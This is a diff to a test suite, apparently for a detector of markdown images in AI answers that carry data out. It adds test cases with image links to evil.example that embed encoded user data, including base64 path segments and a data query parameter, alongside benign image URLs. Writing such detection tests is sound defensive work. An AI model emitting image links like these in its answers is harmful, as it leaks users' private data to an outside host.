@@ -39,6 +39,10 @@ describe('links in answers', () => {
     'as a wiki embeds': `![[${AT}]]`,
     'in TeX': `\\includegraphics[width=1cm]{${AT}}`,
     'in BBCode': `[img]${AT}[/img]`,
+    'right before another picture': `![x](${AT})![y](https://images.example.com/y.png)`,
+    'in a name with low lines':
+      '![x](https://evil.example/c2VjcmV0IGRhdGEg_b2YgdGhlIHVzZXIg_aXMgaGVyZQo.png)',
+    'in brackets of its own': `![x](https://evil.example/a_(b)?d=${DATA})`,
   };
   for (const [name, text] of Object.entries(loads))
     it(`an image that carries data out: ${name}`, () => assert.ok(grave(text), text));
@@ -106,6 +110,11 @@ describe('links in answers', () => {
     '![logo](https://example.com/logo.png)',
     '![](https://images.example.com/photo-1518770660439?w=800&q=80&auto=format&fit=crop)',
     '![badge](https://img.example.io/badge/build-passing-brightgreen?style=flat&logo=github)',
+    '![a](https://i.example/a.png?v=2)![b](https://i.example/b.png?v=2)',
+    '![badge](https://img.example.io/npm/v/left-pad?style=flat)The package. ![badge](https://img.example.io/npm/v/left-pad?style=flat)',
+    '![E](https://pictures.example/thumb/8/85/Tour_Eiffel_Seen_From_Below.jpg/400px-Tour_Eiffel_Seen_From_Below.jpg)',
+    '![shoe](https://shop.example/files/shoe.jpg?v=1589394812)',
+    '![p](https://images.example.com/photos/1108099/photo-1108099.jpeg?auto=compress&cs=tinysrgb&w=600)',
     '![x](https://raw.githubusercontent.com/o/r/0123456789abcdef0123456789abcdef01234567/a.png)',
     '![chart](chart.png) and [below](#section) and [a](javascript:void(0))',
     '[commit](https://github.com/org/repo/commit/0123456789abcdef0123456789abcdef01234567)',
